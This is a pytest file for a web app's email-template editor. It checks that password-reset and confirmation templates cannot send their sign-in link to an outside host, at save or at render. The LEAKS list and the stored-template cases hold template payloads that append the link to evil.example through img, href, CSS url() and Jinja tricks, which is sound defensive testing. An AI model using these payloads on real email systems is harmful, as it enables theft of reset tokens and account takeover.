"""An account email's link signs its reader in: it reaches the person it is for and nobody else.
Only admins edit account emails; a template that would send the link (or load anything) outside
the platform is refused on save, and a template that reached the database anyway is guarded
when rendered, up to the message the SMTP relay receives."""

import re
from html import unescape

import lxml.html
import pytest
import sqlalchemy as sa

from jobs.drain import drain_once
from webapp.extensions import db
from webapp.models import EmailTemplate, EmailTemplateVersion, User
from webapp.services import account_emails

BASE_URL = "http://missive.test"
EVIL = "https://evil.example"
# Ways to hand the link to an outside host, each refused on save.
LEAKS = [
    f'<p>Hello</p><img src="{EVIL}/p?l={{{{ action_url }}}}">',
    f'<p><a href="{EVIL}/p?l={{{{ action_url }}}}">Choose a password</a></p>',
    f'<p><a href="{BASE_URL}@evil.example/{{{{ action_url }}}}">Choose a password</a></p>',
    f'<p>Link: <a href="{{{{ action_url }}}}">here</a></p><img src="{EVIL}/logo.png">',
    f'<p style="background-image: url({EVIL}/p.png)">{{{{ action_url }}}}</p>',
    f'<p><img srcset="{EVIL}/a.png 1x" src="{BASE_URL}/a.png"> {{{{ action_url }}}}</p>',
    f'<p>{EVIL}/p?l={{{{ action_url }}}}</p>',
    f'<p>{EVIL}/p?l=<b>{{{{ action_url }}}}</b></p>',
    f'<p><a href="{EVIL}/p?l={{{{ action_url|urlencode }}}}">x</a></p>',
    f'{{% set link = action_url %}}<p><a href="{EVIL}/?{{{{ link }}}}">x</a></p>',
    f'{{% macro m() %}}{{{{ action_url }}}}{{% endmacro %}}<img src="{EVIL}/?{{{{ m() }}}}">',
    f'<p title="{{{{ action_url }}}}">Hello</p><link rel="stylesheet" href="{EVIL}/s.css">',
]


@pytest.fixture
def system(app, users):
    """The account emails' templates, by key."""
    with app.app_context():
        found = {key: t.id for key, t in account_emails.ensure_system_templates().items()}
        db.session.commit()
        return found


def _form(app, template_id: int, body_html: str, subject: str = "Reset · {{ platform_name }}",
          body_text: str = "") -> dict:
    with app.app_context():
        template = db.session.get(EmailTemplate, template_id)
        data = {"template_id": str(template.id), "name": template.name,
                "default_locale": template.default_locale}
        for version in template.versions:
            data[f"subject_{version.locale}"] = subject
            data[f"body_html_{version.locale}"] = body_html
            data[f"body_text_{version.locale}"] = body_text
        return data


def _bodies(app, template_id: int) -> list[tuple[str, str, str]]:
    with app.app_context():
        return sorted(db.session.execute(
            sa.select(EmailTemplateVersion.subject, EmailTemplateVersion.body_html,
                      EmailTemplateVersion.body_text)
            .where(EmailTemplateVersion.template_id == template_id)).all())


@pytest.mark.parametrize("body", LEAKS)
def test_an_admin_cannot_save_an_account_email_that_sends_its_link_outside(app, client, auth,
                                                                          system, body):
    auth.login_as("admin")
    template_id = system[account_emails.PASSWORD_RESET]
    before = _bodies(app, template_id)
    response = client.post(f"/email-templates/{template_id}", data=_form(app, template_id, body))
    assert response.status_code == 422
    page = unescape(response.get_data(as_text=True))
    assert "action_url" in page and ("outside the platform" in page or "link" in page)
    assert _bodies(app, template_id) == before
    preview = client.post("/email-templates/preview", data=_form(app, template_id, body),
                          headers={"HX-Request": "true"})
    shown = unescape(preview.get_data(as_text=True))
    # `set` and `macro` are refused by the template syntax itself, before the link is looked at.
    assert ("outside the platform" in shown or "action_url" in shown
            or "tag is not allowed in an email template" in shown)


@pytest.mark.parametrize("part", ["subject", "body_text"])
def test_the_subject_and_text_part_cannot_glue_the_link_to_an_outside_address(app, client, auth,
                                                                             system, part):
    auth.login_as("admin")
    template_id = system[account_emails.CONFIRMATION]
    glued = f"{EVIL}/p?l={{{{ action_url }}}}"
    data = _form(app, template_id, '<p><a href="{{ action_url }}">{{ action_url }}</a></p>',
                 **{part: glued})
    response = client.post(f"/email-templates/{template_id}", data=data)
    assert response.status_code == 422
    assert "must stand apart" in unescape(response.get_data(as_text=True))


def test_an_admin_saves_an_account_email_with_the_link_to_the_platform(app, client, auth,
                                                                      system):
    auth.login_as("admin")
    template_id = system[account_emails.PASSWORD_RESET]
    body = (f'<p><img src="{BASE_URL}/static/logo.png" alt="Missive"></p>'
            '<p>Follow this link: <strong>{{ action_url }}</strong> or '
            '<a href="{{ action_url }}">click here</a>. See also '
            f'<a href="{BASE_URL}/help">the help</a> and <a href="https://example.org">us</a>.</p>')
    response = client.post(f"/email-templates/{template_id}",
                           data=_form(app, template_id, body,
                                      body_text="Link:\n{{ action_url }}"))
    assert response.status_code == 303, re.findall(r'class="error[^>]*>\s*(.{0,200})',
                                                   response.get_data(as_text=True))
    page = client.get("/email-templates/").get_data(as_text=True)
    row = re.search(rf'<tr id="template-{template_id}">.*?</tr>', page, re.S).group(0)
    with app.app_context():
        admin = db.session.scalar(sa.select(User).where(User.email == "admin@example.org"))
        assert admin.name in unescape(row)
    history = client.get(f"/email-templates/{template_id}").get_data(as_text=True)
    assert "template edited" in history and "body_html [" in history


def _links_in(message) -> tuple[str, str]:
    html = message.message.get_body(("html",)).get_content()
    text = message.message.get_body(("plain",)).get_content()
    return html, text


def _assert_link_reaches_the_platform_only(message, token: str) -> None:
    """Every place the message carries the token is the href of a link to the platform or a
    URL of the platform standing apart in the text; nothing is loaded from outside."""
    html, text = _links_in(message)
    raw = message.message.as_string()
    assert "evil.example" not in raw.split("\n\n", 1)[0]  # headers
    tree = lxml.html.document_fromstring(html)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            if name in ("src", "srcset", "background", "style", "poster", "data"):
                assert "evil.example" not in value and "url(" not in value, (name, value)
            if token in value:
                assert element.tag == "a" and name == "href", (element.tag, name)
                assert value.startswith(f"{BASE_URL}/"), value
    assert "evil.example" not in " ".join(
        value for element in tree.iter() if isinstance(element.tag, str)
        for name, value in element.attrib.items() if name != "href" or element.tag != "a"
    )
    for body in (unescape(re.sub(r"<[^>]+>", " ", html)), text):
        for match in re.finditer(re.escape(token), body):
            start = match.start()
            while start > 0 and not body[start - 1].isspace():
                start -= 1
            url = body[start:match.end()].lstrip("(<«\"':")
            assert url.startswith(f"{BASE_URL}/"), url


@pytest.mark.parametrize("stored", [
    # Refused by the editor, so it falls back to the built-in wording.
    f'<p>Hello</p><img src="{EVIL}/p?l={{{{ action_url }}}}">'
    f'<p><a href="{EVIL}/?l={{{{ action_url }}}}">Choose a password</a></p>',
    # Passes the editor's check (its source shows no link in the outside address): only the
    # rendered HTML carries the link out, and the guard of the rendered message removes it.
    f'<p>Stored wording: <a href="{EVIL}/?l={{% if false %}}">{{% endif %}}{{{{ action_url }}}}'
    f'">Choose</a> or {{{{ action_url }}}}</p>',
])
def test_a_manager_cannot_take_over_the_admin_through_the_reset_email(app, client, auth, system,
                                                                     smtp, stored):
    auth.login_as("manager")
    with app.app_context():
        ids = list(db.session.scalars(sa.select(EmailTemplate.id)))
    leak = f'<p><img src="{EVIL}/p?l={{{{ action_url }}}}"></p>'
    for template_id in ids:
        before = _bodies(app, template_id)
        response = client.post(f"/email-templates/{template_id}",
                               data=_form(app, template_id, leak))
        assert response.status_code in (403, 422), template_id
        assert _bodies(app, template_id) == before
    assert client.get(f"/email-templates/{system[account_emails.PASSWORD_RESET]}"
                      ).status_code == 403
    # Put straight into the database, as no editor would let it.
    with app.app_context():
        template = db.session.get(EmailTemplate, system[account_emails.PASSWORD_RESET])
        for version in template.versions:
            version.body_html = stored
            version.body_text = ""
        db.session.commit()
    auth.logout()
    client.post("/auth/forgot", data={"email": "admin@example.org"})
    drain_once(app)
    [message] = smtp.to("admin@example.org")
    html, text = _links_in(message)
    link = re.search(rf"{re.escape(BASE_URL)}/auth/reset/[^\s\"<)]+", text).group(0)
    token = link.rsplit("/", 1)[1]
    assert f'href="{link}"' in unescape(html) or link in text
    _assert_link_reaches_the_platform_only(message, token)
    assert "evil.example/p?" not in html
    # The first is replaced by the built-in wording; the second is sent, guarded.
    assert ("Stored wording" in html) is ("{% if false %}" in stored)
